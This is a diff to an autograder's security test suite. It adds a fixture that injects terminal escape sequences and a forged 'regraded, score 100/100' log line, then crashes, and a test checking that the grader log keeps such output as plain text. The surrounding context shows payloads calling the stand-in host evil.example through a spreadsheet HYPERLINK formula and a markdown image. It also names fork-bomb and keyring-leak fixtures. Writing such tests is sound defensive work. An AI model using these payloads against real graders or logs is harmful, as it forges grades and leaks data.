@@ -220,6 +220,13 @@ raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n# Score: 100 / 1
                    '![x](http://evil.example/x.png)')
 """
 SLEEP = "time.sleep(10 ** 6)\n"
+# Terminal escapes on stderr, then a crash: its last line went raw into the instructor's grader.log (cursor up,
+# erase the line, a forged entry, the clipboard, the window's title).
+ESCAPE = r"""
+sys.stderr.write("\x1b[1A\x1b[2K\x1bE2026-01-01 00:00:00 bob: regraded, score 100/100 \x1b]52;c;aGk=\x07\x1b]0;t\x07\n")
+sys.stderr.flush()
+os._exit(1)
+"""
 # A key in the session keyring, which a child under namespaces shared with the grader: it outlived the run.
 KEYRING = r"""
 ctypes = importer("ct" + "ypes"); platform = importer("plat" + "form")
@@ -305,6 +312,7 @@ def attacked(tmp_path_factory):
             "forker": FORK,
             "injector": INJECT,
             "hog": HOG,
+            "escaper": ESCAPE,
             "leaker": LEAK.format(raise_hidden=True),
             "stasher": LEAK.format(raise_hidden=False),
             "borrower": "from homework.kv_attention import KeyValueAttention\n",
@@ -408,6 +416,16 @@ def test_floods_swarms_and_fork_bombs_are_stopped_and_named(attacked):
     assert records["swarm"]["status"] == "out-of-memory", records["swarm"]["message"]
     assert records["forker"]["status"] == "too-many-processes", records["forker"]["message"]
     assert records["hog"]["status"] == "out-of-memory", records["hog"]["message"]
+
+
+@needs_namespaces
+def test_what_a_crashing_module_wrote_reaches_the_graders_log_as_plain_text(attacked):
+    record = attacked["records"]["escaper"]
+    assert record["status"] == "crashed" and "regraded" in record["message"], record["message"]
+    log = (attacked["grades"] / "grader.log").read_text(encoding="utf-8")
+    assert "\x1b" not in log and "\x07" not in log
+    said = [line for line in log.splitlines() if "regraded" in line]
+    assert said and all("escaper" in line and not line.startswith("2026-01-01") for line in said), said
 
 
 @needs_namespaces
